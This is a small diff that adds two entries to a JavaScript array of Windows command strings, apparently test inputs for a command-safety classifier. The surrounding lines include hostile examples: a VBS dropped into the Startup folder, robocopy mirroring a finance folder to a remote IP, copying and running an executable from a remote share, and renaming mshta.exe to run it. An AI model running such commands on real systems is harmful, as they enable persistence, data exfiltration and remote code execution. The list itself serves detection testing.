@@ -123,6 +123,8 @@ const OTHERS = [
   'explorer C:\\Users\\Public\\a.hta',
   'xcopy a.vbs "%appdata%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"',
   'robocopy C:\\Finance \\\\203.0.113.7\\a /MIR',
+  'cmd /c copy \\\\files.example/a/b.csv C:\\b.csv',
+  'notepad.exe \\/files.example/a/b.txt',
   'cmd /c copy \\\\host.example.net@80\\a\\b.exe C:\\b.exe',
   'cmd /c copy C:\\Windows\\System32\\mshta.exe C:\\a.exe && C:\\a.exe',
   'cmd /c dir & %temp%\\a.exe',
